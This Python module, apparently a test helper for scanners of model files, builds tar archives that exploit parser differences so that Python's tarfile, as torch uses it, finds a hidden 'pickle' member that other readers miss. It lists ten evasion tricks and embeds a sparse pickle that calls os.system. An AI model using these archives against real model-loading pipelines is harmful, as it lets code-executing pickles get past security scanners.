"""Tars whose headers mean one thing to Python's reader, as torch uses it, and another to others."""

import struct
from collections.abc import Iterator
from dataclasses import dataclass

BLOCK = 512


@dataclass
class Header:
    """One header and the content behind it; the size is that of the content unless given."""

    name: bytes = b"pickle"
    data: bytes = b""
    kind: bytes = b"0"
    size: int | bytes | None = None
    magic: bytes = b"ustar\x0000"
    checksum: bytes | None = None
    target: bytes = b""
    sparse: tuple[tuple[int, int], ...] = ()  # place and length of what is no hole

    def pack(self) -> bytes:
        size = len(self.data) if self.size is None else self.size
        written = b"%011o\0" % size if isinstance(size, int) else size
        block = bytearray(BLOCK)
        block[: len(self.name)] = self.name
        block[100:124] = b"0000644\0" * 3
        block[124:136] = written
        block[136:148] = b"00000000000\0"
        block[148:156] = b" " * 8
        block[156:157] = self.kind
        block[157 : 157 + len(self.target)] = self.target
        block[257 : 257 + len(self.magic)] = self.magic
        if self.sparse:
            places = b"".join(b"%011o\0%011o\0" % place for place in self.sparse)
            block[386 : 386 + len(places)] = places
            block[483:495] = b"%011o\0" % sum(self.sparse[-1])
        total = sum(block)
        block[148:156] = b"%06o\0 " % total if self.checksum is None else self.checksum
        return bytes(block) + padded(self.data)


def padded(data: bytes) -> bytes:
    return data + b"\0" * (-len(data) % BLOCK)


def record(key: bytes, value: bytes) -> bytes:
    size = len(key) + len(value) + 3
    size += len(b"%d" % (size + len(b"%d" % size)))
    return b"%d %s=%s\n" % (size, key, value)


def pax(*records: tuple[bytes, bytes], kind: bytes = b"x", name: bytes = b"pax") -> Header:
    return Header(name, b"".join(record(*item) for item in records), kind)


def pack(*headers: Header) -> bytes:
    return b"".join(header.pack() for header in headers) + b"\0" * 2 * BLOCK


def _binary_sum(header: Header) -> Header:
    """Write the check sum as a binary number, in a header without a magic number."""
    header.magic, header.checksum = b"", None
    total = int(header.pack()[148:154], 8)
    header.checksum = b"\x80" + struct.pack(">7s", total.to_bytes(7, "big"))
    return header


def evasions(evil: bytes) -> Iterator[tuple[str, bytes]]:
    """Give tars in which Python's `tarfile` finds a payload as the member ``pickle``."""
    filler = b"x" * len(evil)
    yield "no name in the header", pack(pax((b"path", b"pickle"), name=b""), Header(b"", evil))
    yield (
        "no name in a later header",
        pack(Header(b"a", b"x"), Header(b"", b"pickle\0", b"L"), Header(b"", evil)),
    )
    yield "binary check sum", pack(_binary_sum(Header(data=evil)))
    yield (
        "size in a Solaris record",
        pack(pax((b"size", b"%d" % len(evil)), kind=b"X"), Header(data=evil, size=0)),
    )
    yield (
        "one size for all members",
        pack(
            pax((b"size", b"0"), kind=b"g"),
            Header(b"a", filler),
            pax((b"size", b"%d" % len(evil))),
            Header(data=evil),
        ),
    )
    yield (
        "record in a comment",
        pack(
            pax((b"comment", b"\n12 size=%d\n" % (3 * BLOCK))),
            Header(b"a", b""),
            Header(data=evil),
            Header(b"b", b"x"),
        ),
    )
    yield (
        "directory with a size",
        pack(Header(b"a", kind=b"5", size=2 * BLOCK), Header(data=evil), Header(b"b", b"x")),
    )
    yield (
        "oldest directory with a size",
        pack(Header(b"a/", kind=b"\0", size=2 * BLOCK), Header(data=evil), Header(b"b", b"x")),
    )
    yield (
        "link with a size in a record",
        pack(
            pax((b"size", b"%d" % (2 * BLOCK))),
            Header(b"a", kind=b"2", target=b"b", size=2 * BLOCK),
            Header(data=evil),
        ),
    )
    yield "sparse file", pack(_sparse())


def _sparse() -> Header:
    """Leave the zeros of a pickle out, which only a reader of sparse files puts back."""
    kept = (b"\x80\4X\2", b"osX\6", b"system\x93\x8c\4true\x85R.")
    places, at = [], 0
    for piece in kept:
        places.append((at, len(piece)))
        at += len(piece) + 3
    return Header(data=b"".join(kept), kind=b"S", magic=b"ustar  \0", sparse=tuple(places))
